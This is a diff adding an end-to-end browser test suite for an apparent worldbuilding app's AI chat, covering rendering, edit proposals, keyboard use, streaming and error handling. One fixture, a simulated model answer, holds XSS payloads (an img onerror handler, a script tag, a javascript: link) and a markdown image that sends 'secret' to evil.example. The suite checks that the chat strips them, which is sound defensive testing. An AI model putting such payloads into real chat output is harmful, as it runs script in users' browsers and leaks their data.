@@ -1,0 +1,277 @@
+import { createDatabase, type DatabaseHandle } from '@worldloom/db'
+import { calls, type ModelEndpoint, says, startModelEndpoint } from '@worldloom/server/testing'
+import type { Browser, Page } from 'playwright-core'
+import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
+import { launchBrowser } from '../src/browser.ts'
+import { looks, Visitor } from '../src/visitor.ts'
+import { startTestWorldloom, type TestWorldloom } from '../src/worldloom.ts'
+
+let endpoint: ModelEndpoint
+let worldloom: TestWorldloom
+let database: DatabaseHandle
+let browser: Browser
+/** Of somebody in the demo world, and a story of it. */
+let personaId = ''
+let storyId = ''
+
+beforeAll(async () => {
+  endpoint = await startModelEndpoint()
+  worldloom = await startTestWorldloom({ OPENAI_MODEL: 'test-model', OPENAI_BASE_URL: endpoint.url })
+  database = createDatabase(worldloom.database.url)
+  const idOf = async (kind: 'persona' | 'story', name: string) =>
+    (
+      await database.db
+        .selectFrom('entities')
+        .where('kind', '=', kind)
+        .where('displayName', '=', name)
+        .select('id')
+        .executeTakeFirstOrThrow()
+    ).id
+  personaId = await idOf('persona', 'Bastian Oar')
+  storyId = await idOf('story', 'The Night the Ninth Went Dark')
+  browser = await launchBrowser()
+})
+afterAll(async () => {
+  await browser?.close()
+  await database?.close()
+  await worldloom?.close()
+  await endpoint?.close()
+})
+beforeEach(async () => {
+  endpoint.answer(says('Hello.'))
+  await database.db.deleteFrom('conversations').execute()
+})
+
+const composer = (page: Page) => page.getByRole('textbox', { name: 'Your message' })
+
+async function ask(page: Page, text: string) {
+  await composer(page).fill(text)
+  await composer(page).press('Enter')
+}
+
+const answer = `**Bastian Oar** knows. He is named by [Bastian Oar](entity:PERSONA), and [nobody](entity:00000000-0000-7000-8000-000000000000) else.
+
+| who | what |
+| --- | --- |
+| Bastian | ferries |
+
+\`\`\`ts
+const bells = 9
+\`\`\`
+
+<img src=x onerror="document.title='owned'"><script>document.title='owned'</script>
+![secret](https://evil.example/?q=secret) [out](https://example.com/a) [bad](javascript:alert(1))`
+
+describe.each(looks)('the chat, %s', (look) => {
+  test('answers from the world, with links, tables and code, and nothing that could harm', async () => {
+    const visitor = await Visitor.arrive(browser, worldloom.url, look)
+    const { page } = visitor
+    await visitor.signIn('Mira', '/chat')
+    await page.getByRole('heading', { name: 'What would you like to know?' }).waitFor()
+    await visitor.inspect('chat-new')
+    endpoint.answer(
+      calls(['searchWorld', { query: 'Bastian' }], ['storyOutline', { storyId }]),
+      says(answer.replace('PERSONA', personaId), 2),
+    )
+    await page.getByLabel('About').selectOption({ label: 'The Iron Coast' })
+    await ask(page, 'Who knows about the bell?')
+    await page.getByRole('cell', { name: 'ferries' }).waitFor()
+    await page.getByText('test-model · 220 tokens').waitFor()
+    await page.getByText(/Searched for “Bastian”: \d+ found/).waitFor()
+    const link = page.getByRole('link', { name: 'Bastian Oar' })
+    expect(await link.getAttribute('href')).toMatch(new RegExp(`^/worlds/[0-9a-f-]+/personas/${personaId}$`))
+    // Who was never looked up is no link.
+    expect(await page.getByRole('link', { name: 'nobody' }).count()).toBe(0)
+    const out = page.getByRole('link', { name: 'out' })
+    expect(await out.getAttribute('rel')).toBe('noopener noreferrer nofollow')
+    expect(await page.getByRole('link', { name: 'bad' }).count()).toBe(0)
+    expect(await page.locator('article img, article script').count()).toBe(0)
+    expect(await page.title()).not.toContain('owned')
+    await visitor.inspect('chat-answer')
+    await page.getByRole('heading', { name: 'A title' }).waitFor()
+    await link.click()
+    await page.getByRole('heading', { name: 'Bastian Oar', level: 1 }).waitFor()
+    await visitor.leave()
+  })
+
+  test('shows what would be written as a card, and writes it once it is confirmed', async () => {
+    const visitor = await Visitor.arrive(browser, worldloom.url, look)
+    const { page } = visitor
+    const name = `Marrow ${look}`
+    await visitor.signIn('Mira', '/worlds')
+    await page.getByRole('link', { name: 'The Iron Coast' }).click()
+    await page.getByRole('button', { name: 'Ask about this world' }).click()
+    endpoint.answer(
+      calls(
+        ['proposeCreate', { kind: 'persona', fields: { name, epithet: 'the Quiet', body: 'Born *late*.' } }],
+        ['proposeUpdate', { id: personaId, fields: { pronouns: `he/${look}` } }],
+      ),
+      says('It is proposed.'),
+    )
+    const panel = page.getByRole('dialog', { name: 'Ask about The Iron Coast' })
+    await panel.getByRole('textbox').waitFor()
+    await ask(page, 'Add somebody quiet')
+    const card = panel.getByRole('region', { name: 'Proposal: add a persona' })
+    await card.getByText('the Quiet').waitFor()
+    await panel.getByText('It is proposed.').waitFor()
+    await visitor.inspect('chat-proposal')
+    await card.getByRole('button', { name: 'Add it' }).click()
+    await card.getByText('Added:').waitFor()
+    await panel
+      .getByRole('region', { name: 'Proposal: change a persona' })
+      .getByRole('button', { name: 'Dismiss' })
+      .click()
+    await panel.getByText('nothing was written').waitFor()
+    await visitor.inspect('chat-decided')
+    await card.getByRole('link', { name }).click()
+    await page.getByRole('heading', { name, level: 1 }).waitFor()
+    await visitor.leave()
+  })
+})
+
+test('everything is done with the keyboard: asking, stopping, editing, going from branch to branch, trying again', async () => {
+  const visitor = await Visitor.arrive(browser, worldloom.url)
+  const { page } = visitor
+  await visitor.signIn('Mira', '/chat')
+  const long = Array.from({ length: 200 }, (_, index) => `word${index} `).join('')
+  endpoint.answer(says(long, 30))
+  await composer(page).waitFor()
+  // It has the focus already.
+  await page.keyboard.type('Tell me')
+  await page.keyboard.press('Enter')
+  await page.getByText('word3').waitFor()
+  await page.keyboard.press('Tab')
+  expect(await page.evaluate(() => document.activeElement?.getAttribute('aria-label'))).toBe('Stop the answer')
+  await page.keyboard.press('Enter')
+  await page.getByText('You stopped the answer here.').waitFor()
+  await expect.poll(() => endpoint.cancelled).toBeGreaterThan(0)
+  endpoint.answer(says('Shorter.'), says('Other.'))
+  await page.getByRole('button', { name: 'Answer once more' }).focus()
+  await page.keyboard.press('Enter')
+  await page.getByText('Shorter.').waitFor()
+  await page.getByRole('button', { name: 'Edit the question' }).focus()
+  await page.keyboard.press('Enter')
+  await page.keyboard.press('ControlOrMeta+A')
+  await page.keyboard.type('Tell me something else')
+  await page.keyboard.press('Tab')
+  await page.keyboard.press('Tab')
+  await page.keyboard.press('Enter')
+  await page.getByText('Other.').waitFor()
+  await page.getByText('2 of 2').waitFor()
+  await page.getByRole('button', { name: 'The one before' }).focus()
+  await page.keyboard.press('Enter')
+  await page.getByText('Shorter.').waitFor()
+  expect(await page.getByText('2 of 2').count()).toBe(1)
+  await visitor.keep('chat-branches')
+  await visitor.leave()
+})
+
+test('an answer goes on while the page is away, and is seen in a second tab', async () => {
+  const visitor = await Visitor.arrive(browser, worldloom.url)
+  const { page } = visitor
+  await visitor.signIn('Mira', '/chat')
+  const long = Array.from({ length: 120 }, (_, index) => `word${index} `).join('')
+  endpoint.answer(says(`${long}**the end**`, 30))
+  await composer(page).waitFor()
+  await ask(page, 'Tell me')
+  await page.getByText('word3').waitFor()
+  const second = await visitor.openTab(page.url())
+  await second.getByText('word10').waitFor()
+  await page.reload()
+  await page.getByText('word20').waitFor()
+  // Cut off for a while.
+  await page.route('**/trpc/chat.watch**', (route) => route.abort())
+  await page.reload()
+  await page.getByText('The connection is lost.').waitFor()
+  await visitor.keep('chat-offline')
+  await page.unroute('**/trpc/chat.watch**')
+  for (const tab of [page, second]) {
+    await tab.getByText('the end').waitFor()
+    const text = await tab.getByRole('article', { name: 'Answer' }).locator('.prose').textContent()
+    expect(text?.replace(/\s+/g, ' ').trim()).toBe(`${long}the end`)
+  }
+  expect(endpoint.requests.length).toBeGreaterThan(0)
+  // What is asked in one is seen in the other.
+  endpoint.answer(says('And so on.'))
+  await ask(second, 'And then?')
+  await page.getByText('And so on.').waitFor()
+  await visitor.leave()
+})
+
+test('what goes wrong leaves what arrived, a sentence and a way on; what was typed is kept', async () => {
+  const visitor = await Visitor.arrive(browser, worldloom.url)
+  const { page } = visitor
+  await visitor.signIn('Mira', '/chat')
+  endpoint.answer(async (completion) => {
+    await completion.text('As far as this.')
+    completion.break()
+  }, says('Now whole.'))
+  await composer(page).waitFor()
+  await ask(page, 'Go')
+  await page.getByText('The connection to the model broke off.').waitFor()
+  await page.getByText('As far as this.').waitFor()
+  await visitor.inspect('chat-failed')
+  await page.getByRole('button', { name: 'Try again' }).click()
+  await page.getByText('Now whole.').waitFor()
+  await composer(page).fill('not sent yet')
+  await page.reload()
+  await page.getByText('Now whole.').waitFor()
+  expect(await composer(page).inputValue()).toBe('not sent yet')
+  await composer(page).fill('x'.repeat(20_001))
+  await page.getByText('1 characters too long').waitFor()
+  expect(await page.getByRole('button', { name: 'Send' }).isDisabled()).toBe(true)
+  await page.goto('/chat/00000000-0000-7000-8000-000000000000')
+  await page.getByRole('heading', { name: 'No such conversation' }).waitFor()
+  await visitor.keep('chat-missing')
+  await visitor.leave()
+})
+
+test('conversations are searched, renamed, exported, deleted and brought back', async () => {
+  const visitor = await Visitor.arrive(browser, worldloom.url)
+  const { page } = visitor
+  await visitor.signIn('Mira', '/chat')
+  endpoint.answer(says('The kraken sleeps.'))
+  await composer(page).waitFor()
+  await ask(page, 'Monsters?')
+  await page.getByText('The kraken sleeps.').waitFor()
+  await page.getByRole('heading', { name: 'A title' }).waitFor()
+  const menu = async (item: string) => {
+    await page.getByRole('button', { name: 'Menu of A title' }).click()
+    await page.getByRole('menuitem', { name: item }).click()
+  }
+  await page.getByRole('button', { name: 'Menu of A title' }).click()
+  await page.getByRole('menu').waitFor()
+  await visitor.inspect('chat-menu')
+  await page.keyboard.press('Escape')
+  const [download] = await Promise.all([page.waitForEvent('download'), menu('Export to read')])
+  expect(download.suggestedFilename()).toBe('A-title.md')
+  await page.getByRole('searchbox').fill('nothing of the kind')
+  await page.getByText('Nothing like that was said.').waitFor()
+  await page.getByRole('searchbox').fill('KRAKEN')
+  await page.getByRole('link', { name: 'A title' }).waitFor()
+  await menu('Delete')
+  await page.getByText('“A title” is deleted.').waitFor()
+  await page.getByRole('heading', { name: 'What would you like to know?' }).waitFor()
+  await page.getByRole('button', { name: 'Undo' }).click()
+  await page.getByRole('link', { name: 'A title' }).waitFor()
+  await menu('Rename')
+  await page.getByRole('textbox', { name: 'Title' }).fill('Deep things')
+  await page.getByRole('button', { name: 'Rename' }).click()
+  await page.getByRole('searchbox').fill('deep th')
+  await page.getByRole('link', { name: 'Deep things' }).waitFor()
+  await visitor.leave()
+})
+
+describe.each(looks)('where no model is configured, %s', (look) => {
+  test('the page says what to set', async () => {
+    const without = await startTestWorldloom()
+    const visitor = await Visitor.arrive(browser, without.url, look)
+    const { page } = visitor
+    await visitor.signIn('Mira', '/chat')
+    await page.getByRole('heading', { name: 'No model to talk to yet' }).waitFor()
+    await page.getByText('OPENAI_BASE_URL').waitFor()
+    await visitor.inspect('chat-setup')
+    await visitor.leave()
+    await without.close()
+  })
+})
